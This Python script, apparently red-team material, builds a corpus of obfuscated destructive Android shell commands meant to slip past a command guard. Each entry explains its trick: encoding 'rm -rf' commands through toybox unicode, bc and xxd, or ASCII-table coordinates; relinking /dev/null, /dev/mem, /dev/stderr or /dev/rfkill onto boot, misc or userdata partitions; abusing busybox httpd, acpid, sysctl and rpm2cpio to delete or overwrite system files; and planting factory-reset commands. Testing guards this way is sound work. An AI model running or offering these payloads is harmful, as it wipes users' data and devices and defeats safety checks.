#!/usr/bin/env python3
"""Round 9, attacker B: the corpus as Python data. Writes corpus.jsonl; checks no cmd repeats
an earlier corpus line (tests/guard/** and attack/r*/ except r9b)."""
import glob, json, pathlib
HERE = pathlib.Path(__file__).resolve().parent

def uni(text):
    return " ".join("%x" % ord(c) for c in text)

MK = "mkdir -p /proc/sys 2>/dev/null; "
RPM = (r"""{ head -c 96 /dev/zero; printf '\216\255\350\001\0\0\0\0\0\0\0\0\0\0\0\0\216\255\350\001\0\0\0\0\0\0\0\1\0\0\0\012\0\0\004\024\0\0\0\006\0\0\0\0\0\0\0\1x.src.rpm\0'; find %s | cpio -o -H newc | gzip; }""")

L = []
def add(family, cmd, note, **kw):
    d = {"family": family, "cmd": cmd, "note": note}; d.update(kw); L.append(d)

# sysctl-write: busybox sysctl takes a key whose first slash comes before its first dot as a raw
# path; a leading slash makes it absolute, so the "kernel parameter" is any file.
add("sysctl-write", MK + "busybox sysctl -w '/system/etc/hosts=127.0.0.1 localhost'",
    "busybox sysctl: a key in raw a/b/c.d form is used as a path (no dot-to-slash conversion), and a leading / makes it absolute, not under /proc/sys. The 'kernel parameter' is /system/etc/hosts, truncated and rewritten. (mkdir only makes the /proc/sys that sysctl chdirs into; on a phone it exists.)")
add("sysctl-write", MK + "busybox sysctl /dev/block/by-name/misc=boot-recovery",
    "busybox sysctl KEY=VALUE without -w sets a value; the absolute raw key is the misc partition (by-name link followed by open), so 'boot-recovery' lands in the bootloader control block.")
add("sysctl-write", MK + "busybox sysctl -q -w /cache/recovery/command=--wipe_data",
    "busybox sysctl opens the key with O_CREAT: an absolute key creates /cache/recovery/command containing --wipe_data, a factory reset at the next recovery boot; -q hides the echo.")
add("sysctl-conf", MK + "echo '/data/system/users/0.xml = 1' | busybox sysctl -p -",
    "busybox sysctl -p - reads a sysctl.conf from stdin; its one 'setting' is an absolute raw key, so users/0.xml (user 0's record) is overwritten with '1'.")
add("sysctl-conf", MK + "printf '%s\\n' 'vm.swappiness = 60' '/system/framework/framework.jar = 0' '/dev/block/by-name/userdata = 0' > /data/local/tmp/99-tune.conf && busybox sysctl -e -p /data/local/tmp/99-tune.conf",
    "a tuning file applied with busybox sysctl -p: after one real key, two absolute raw keys truncate framework.jar and write the userdata partition; -e hides the unknown vm key on non-Linux-proc setups.")

# unicode-decode: toybox unicode turns hex code points into 'U+XXXX : c' lines; cutting the
# character column rebuilds the command text.
def ucmd(text, tail):
    return "toybox unicode " + uni(text) + tail
add("unicode-decode", ucmd("rm -rf /vendor", " | cut -c10 | tr -d '\\n' | sh"),
    "toybox unicode prints one 'U+0072 : r' line per hex code point; column 10 is the character, so cut+tr rebuild 'rm -rf /vendor' for sh. No earlier corpus used unicode as a decoder.")
add("unicode-decode", ucmd("cmd testharness enable", " | sed 's/.* : //' | tr -d '\\n' | sh"),
    "toybox unicode code points decoded by sed into 'cmd testharness enable' (test-harness mode wipes accounts and data).")
add("unicode-decode", ucmd("pm remove-user 10", ' | while IFS= read -r l; do printf %s "${l#* : }"; done | sh').replace(uni("pm remove-user 10"), uni("pm remove-user 10").upper()),
    "upper-case hex code points through toybox unicode, the character taken by ${l#* : } in a read loop: 'pm remove-user 10'.")
add("unicode-decode", 'rm -rf "$(toybox unicode ' + uni("/data/user_de/0") + " | cut -c10 | tr -d '\\n')\"",
    "only the path is encoded: toybox unicode code points decode to /data/user_de/0, every app's device-encrypted data, deleted by an rm whose operand is a command substitution.")

# rpm2cpio: a hand-made rpm (lead + empty header + gzip'd newc cpio) unpacked through rpm2cpio | cpio in /.
add("rpm2cpio", "cd /data/local/tmp && mkdir -p st/system && echo 'ro.x=1' > st/system/build.prop && cd st && " + (RPM % "system") + " > ../upd.rpm && cd / && busybox rpm2cpio /data/local/tmp/upd.rpm | cpio -idu",
    "busybox rpm2cpio strips a printf-built rpm lead/header and inflates its payload; cpio -idu in / then replaces /system/build.prop. Earlier rounds installed such an rpm with rpm -i; rpm2cpio+cpio was never used.")
add("rpm2cpio", "cd /data/local/tmp && mkdir -p rc/cache/recovery && echo --wipe_data > rc/cache/recovery/command && cd rc && " + (RPM % "cache/recovery/command") + " > ../ota.rpm && busybox rpm2cpio ../ota.rpm | (cd / && cpio -idu)",
    "the same rpm2cpio route writing cache/recovery/command (--wipe_data) when the cpio stream is unpacked in / by a subshell.")

# ln-replace: ln -f without -s replaces the destination with a hard link to an unrelated file.
add("ln-replace", "toybox ln -f /data/local/tmp/a.txt /data/system/users/0.xml",
    "ln -f (hard, not -s) unlinks the destination and links another file there: users/0.xml becomes a scratch file (same /data filesystem on a phone, so the link succeeds).")
add("ln-replace", "cd /data/local/tmp && touch empty.xml && ln -f empty.xml /data/system/packages.xml",
    "hard ln -f replaces packages.xml (the package database) with an empty scratch file created just before.")
add("ln-replace", "ln -f /data/local/tmp/app-debug.apk \"$(pm path com.example.app | cut -d: -f2)\"",
    "hard ln -f over the path pm reports for an installed app: its /data/app base.apk (system state under /data/app) is replaced by a scratch file; reads like swapping in a debug build.")
add("multicall-nest", "busybox busybox find /data/user_de/0 -mindepth 1 -maxdepth 1 -exec rm -rf {} +",
    "busybox's find run through the nested busybox applet: every app's device-encrypted data directory deleted.")

# rmdir-climb: rmdir -p removes each now-empty parent too; the "cache dir just created" is
# inside an empty top-level directory, which goes with it.
add("rmdir-climb", "mkdir -p /oem/cache/tmp && rmdir -p /oem/cache/tmp 2>/dev/null",
    "rmdir -p removes the directory and then every parent that is left empty: after the scratch dirs, /oem itself (an entry of /) is removed; it only stops at / (EBUSY). Reads as tidying a temp dir it just made. No earlier line used rmdir.")
add("rmdir-climb", "cd /debug_ramdisk && mkdir -p a/b && cd / && rmdir -p debug_ramdisk/a/b",
    "relative rmdir -p from /: the operand's first component is debug_ramdisk, removed once a/b and a are gone (entry of /).")

# devmem: /dev/mem (absent on Android) made a link to a partition; devmem mmaps it and writes.
add("devmem", "ln -sf /dev/block/by-name/misc /dev/mem && busybox devmem 0x0 32 0x0",
    "busybox devmem writes a 32-bit word through an mmap of /dev/mem; /dev/mem is first made a symlink to the misc partition, so 'physical address 0' is the bootloader control block. The device path is only an ln operand.")
add("devmem", "ln -sf /dev/block/by-name/userdata /dev/mem && toybox devmem 0x400 4 0",
    "toybox devmem (width in bytes, not bits) writes 4 zero bytes at offset 0x400 of userdata, the ext4/f2fs superblock area, through the /dev/mem link.")
add("devmem", "cd /dev && ln -sf block/by-name/boot mem && busybox devmem 0x0 64 0",
    "relative link: /dev/mem -> block/by-name/boot; busybox devmem 0x0 64 zeroes the boot image header.")

# acpid-log: acpid logs every event it reads from -e FILE to its -l log file (append).
add("acpid-log", "printf 'button/power PWRF 00000080 00000001\\n' > /data/local/tmp/ev; timeout 2 busybox acpid -f -l /system/build.prop -e /data/local/tmp/ev -c /data/local/tmp",
    "busybox acpid reads ACPI events from -e FILE (a regular file here) and logs each one to -l LOGFILE: the log is /system/build.prop, which gets event lines appended. No earlier line used acpid.")
add("acpid-log", "printf 'button/power PWRF 00000080 00000001\\n' > /data/local/tmp/pwr.ev; timeout 2 busybox acpid -f -l /data/system/packages.xml -e /data/local/tmp/pwr.ev -c /data/local/tmp",
    "the same acpid log route with the package database (packages.xml) as the log file.")

# bc-hex: a decimal number turned into hex by bc, then into bytes by xxd -r -p.
def bc(text):
    return int.from_bytes(text.encode(), "big")
add("bc-hex", "echo 'obase=16; %d' | busybox bc | xxd -r -p | sh" % bc("rm -rf /odm"),
    "busybox bc prints a decimal integer in base 16; xxd -r -p turns those hex digits into the bytes 'rm -rf /odm' for sh. Earlier number-to-text lines used dc's P; bc has no P, the hex step is done by xxd.")
add("bc-hex", "busybox bc <<EOF | xxd -r -p | sh\nobase=16\n%d\nEOF" % bc("cmd testharness enable"),
    "a here-document feeds bc; its base-16 output decoded by xxd -r -p is 'cmd testharness enable'.")

# ascii-table: characters picked by line and column out of toybox ascii's fixed table.
_T = (HERE / "scratch/ascii.txt").read_text().split("\n")
def apos(c):
    v = ord(c); line = _T[v % 16 + 1]; tok = "%d %02X %s" % (v, v, c)
    i = line.find(tok); assert i >= 0, c
    return v % 16 + 2, i + len(tok)
add("ascii-table", "for p in " + " ".join("%d:%d" % apos(c) for c in "rm -rf /vendor") + "; do toybox ascii | sed -n ${p%:*}p | cut -c${p#*:}; done | tr -d '\\n' | sh",
    "toybox ascii prints a fixed 16-line character table; each line:column pair picks one character (line 4 column 77 is 'r'), so the loop spells 'rm -rf /vendor' for sh. The command is only coordinates.")
add("ascii-table", "toybox ascii | awk -v s='" + " ".join("%d,%d" % apos(c) for c in "rm -rf /data/data") + "' '{l[NR]=$0} END{n=split(s,a,\" \"); for(i=1;i<=n;i++){split(a[i],q,\",\"); printf \"%s\", substr(l[q[1]],q[2],1)}}' | sh",
    "the same table read once by awk: substr at line,column pairs gives 'rm -rf /data/data' (every app's data).")

add("ascii-table", "for p in " + " ".join("%d:%d" % apos(c) for c in "rm -rf /sdcard/DCIM") + "; do toybox ascii | sed -n ${p%:*}p | cut -c${p#*:}; done | tr -d '\\n' | sh",
    "toybox ascii coordinates spelling 'rm -rf /sdcard/DCIM' (the camera folder).")
add("ascii-table", "c=$(toybox ascii | awk -v s='" + " ".join("%d,%d" % apos(c) for c in "pm list packages -3") + "' '{l[NR]=$0} END{n=split(s,a,\" \"); for(i=1;i<=n;i++){split(a[i],q,\",\"); printf \"%s\", substr(l[q[1]],q[2],1)}}'); $c | cut -d: -f2 | xargs -n1 pm uninstall",
    "the package-listing command itself is spelled from toybox ascii's table by awk ('pm list packages -3'), run from a variable, and every third-party package it prints is uninstalled.")
add("bc-hex", "echo 'obase=16; %d' | busybox bc | tr -d '\\\\\\n' | xxd -r -p | sh" % bc("rm -rf /sdcard/Download /sdcard/Pictures"),
    "a longer decimal: bc wraps its base-16 output with backslash-newlines, removed by tr before xxd -r -p; the bytes are 'rm -rf /sdcard/Download /sdcard/Pictures'.")

# multicall-nest: busybox runs its own 'busybox' applet, so the real applet is two words in.
add("multicall-nest", "busybox busybox rm -rf /vendor",
    "busybox has an applet named busybox: 'busybox busybox rm' is busybox's rm. A reader that strips one multicall prefix sees the program 'busybox' with arguments 'rm -rf /vendor'.")
add("multicall-nest", "/system/bin/busybox busybox busybox mv /data/system /data/local/tmp/sys.old",
    "three levels of the busybox applet before mv: /data/system (package and user state) moved away.")

# rfkill-link: toybox rfkill writes a struct rfkill_event to /dev/rfkill; that path made a link.
add("rfkill-link", "ln -sf /dev/block/by-name/misc /dev/rfkill && toybox rfkill block 0",
    "toybox rfkill block writes an 8-byte rfkill_event to /dev/rfkill; /dev/rfkill is first made a symlink to misc, so 'block radio 0' overwrites the bootloader control block. No earlier line used rfkill.")
add("rfkill-link", "cd /dev && ln -sf block/by-name/vbmeta rfkill && toybox rfkill block all",
    "relative link /dev/rfkill -> block/by-name/vbmeta; 'rfkill block all' writes its event over vbmeta's header (boot verification data).")

add("rpm2cpio", "cd /data/local/tmp && mkdir -p ud/data/user_de/0/com.example.app/databases ud/data/user_de/0/com.whatsapp/databases && echo x > ud/data/user_de/0/com.example.app/databases/de.db && echo x > ud/data/user_de/0/com.whatsapp/databases/de.db && cd ud && " + (RPM % "data -type f") + " > ../de.rpm && cd / && busybox rpm2cpio /data/local/tmp/de.rpm | cpio -idu",
    "rpm2cpio | cpio -idu in / overwriting the device-encrypted databases of two apps (a set of apps: app-data). Only files are archived, so existing directories are written through.")
add("bc-hex", "echo 'obase=16; %d' | busybox bc | tr -d '\\\\\\n' | xxd -r -p | sh" % bc("pm list packages -3 | cut -d: -f2 | xargs -n1 pm clear"),
    "bc base-16 output, wrapped lines joined by tr, decoded by xxd into 'pm list packages -3 | cut -d: -f2 | xargs -n1 pm clear' (every third-party app's data cleared).")
add("devmem", "ln -sf /dev/block/mmcblk0 /dev/mem && busybox devmem 0x1c0 16 0",
    "busybox devmem through /dev/mem linked to the whole eMMC (mmcblk0): a 16-bit write at 0x1c0 lands in the protective MBR's partition entry.")
add("acpid-log", "printf 'button/power PWRF 00000080 00000001\\n' > /data/local/tmp/e1; timeout 2 busybox acpid -f -l /data/misc/wifi/WifiConfigStore.xml -e /data/local/tmp/e1 -c /data/local/tmp",
    "acpid's -l log is the saved Wi-Fi networks file (/data/misc/wifi); the event line is appended to it.")
add("rfkill-link", "ln -sf /dev/block/mmcblk0 /dev/rfkill && toybox rfkill unblock wifi",
    "'rfkill unblock wifi' with /dev/rfkill linked to the whole eMMC: the event is written over the first bytes of the disk (protective MBR).")

# httpd-interp: busybox httpd's '*.ext:INTERPRETER' config line runs INTERPRETER with the
# requested file; the interpreter is a destructive program and the URL names the victim.
add("httpd-interp", "echo '*.prop:/system/bin/rm' > /data/local/tmp/h.conf && printf 'GET /build.prop HTTP/1.0\\r\\n\\r\\n' | busybox httpd -i -h /vendor -c /data/local/tmp/h.conf",
    "busybox httpd in inetd mode (-i, request on stdin) serving /vendor; its config maps *.prop to the 'interpreter' rm, so GET /build.prop runs rm on /vendor/build.prop. Earlier httpd lines used sh as interpreter over a script file; here no script exists, the program is the harm and the URL the victim.")
add("httpd-interp", "echo '*.xml:/system/bin/shred' > /data/local/tmp/h.conf && printf 'GET /packages.xml HTTP/1.0\\r\\n\\r\\n' | busybox httpd -i -h /data/system -c /data/local/tmp/h.conf >/dev/null",
    "the same with shred as the *.xml interpreter and /data/system as the document root: GET /packages.xml overwrites the package database with random data.")
add("httpd-interp", "cd /data/local/tmp && echo '*.jar:/system/bin/rm' > srv.conf && printf 'HEAD /framework/framework.jar HTTP/1.0\\r\\n\\r\\n' | busybox httpd -i -h /system -c /data/local/tmp/srv.conf",
    "a HEAD request for /framework/framework.jar with *.jar mapped to rm: framework.jar deleted.")
add("httpd-interp", "mkdir -p /data/local/tmp/www && cd /data/local/tmp/www && echo '*.xml:/system/bin/rm' > httpd.conf && ln -sf /data/system sys && printf 'GET /sys/users/0.xml HTTP/1.0\\r\\n\\r\\n' | busybox httpd -i -h /data/local/tmp/www",
    "no -c on the httpd line: busybox httpd reads httpd.conf by itself from its home directory (-h, also the working directory here); that file maps *.xml to rm, and a symlink 'sys' in the scratch web root makes GET /sys/users/0.xml delete /data/system/users/0.xml.")

# null-link: /dev/null replaced by a link; every later 'discard' is a write to the target.
add("null-link", "ln -sf /dev/block/by-name/userdata /dev/null; dd if=/dev/zero of=/dev/null bs=4096 count=4",
    "/dev/null is first made a symlink to the userdata partition; the classic 'dd if=/dev/zero of=/dev/null' speed test then zeroes its first 16 KiB (superblock). No earlier line replaced /dev/null itself.")
add("null-link", "cd /dev && mv null null.orig && ln -s block/by-name/boot null && cat /data/local/tmp/log.txt > /dev/null",
    "/dev/null moved aside and relinked to boot; 'cat log > /dev/null' overwrites the boot image header.")
add("null-link", "ln -sf /system/build.prop /dev/null; ls /nonexistent 2>/dev/null",
    "with /dev/null linked to build.prop, a stderr redirect '2>/dev/null' truncates build.prop and writes ls's error message into it.")
add("null-link", "ln -sf /cache/recovery/command /dev/null && printf -- '--wipe_data\\n' >/dev/null",
    "the discard target is a link to the not-yet-existing recovery command file: printing '--wipe_data' 'to /dev/null' creates it (factory reset at next recovery boot).")

# stdio-link: /dev/stdout, /dev/stderr (symlinks into /proc/self/fd on Android) replaced.
add("stdio-link", "ln -sf /dev/block/by-name/misc /dev/stderr && echo done | tee /dev/stderr",
    "/dev/stderr (on Android a symlink to /proc/self/fd/2, made by init) is relinked to misc; 'tee /dev/stderr', which reads as echoing to the terminal, writes the bootloader control block.")
add("stdio-link", "ln -sf /dev/block/by-name/metadata /dev/stdout && toybox tar -cf /dev/stdout -C /data/local/tmp log.txt | wc -c",
    "tar -cf /dev/stdout reads as 'archive to the pipe' (wc counts 0 bytes); /dev/stdout now links to the metadata partition (encryption keys), which receives the archive.")

# copy-as-link: options that make a copy/link replace the destination in place.
add("copy-as-link", "toybox cp -sf /data/local/tmp/a.txt /data/system/packages.xml",
    "toybox cp -s makes symlinks instead of copies; with -f the package database is removed and replaced by a link to a scratch file. No earlier line used cp -s.")
add("copy-as-link", "busybox ln -b -S .old /data/local/tmp/a.txt /data/misc/wifi/WifiConfigStore.xml",
    "busybox ln -b (backup, suffix .old) reads as safe: the Wi-Fi store is renamed to .old and replaced by a hard link to a scratch file, so the system reads the wrong file.")

prior = set()
for f in glob.glob('tests/guard/**/*.jsonl', recursive=True) + glob.glob('attack/r*/**/*.jsonl', recursive=True):
    if '/r9b/' in f: continue
    for l in open(f):
        try: prior.add(json.loads(l)["cmd"])
        except Exception: pass
rep = [d["cmd"] for d in L if d["cmd"] in prior]
assert not rep, rep
(HERE / "corpus.jsonl").write_text("".join(json.dumps(d) + "\n" for d in L))
print(len(L), "lines; repeats:", len(rep))
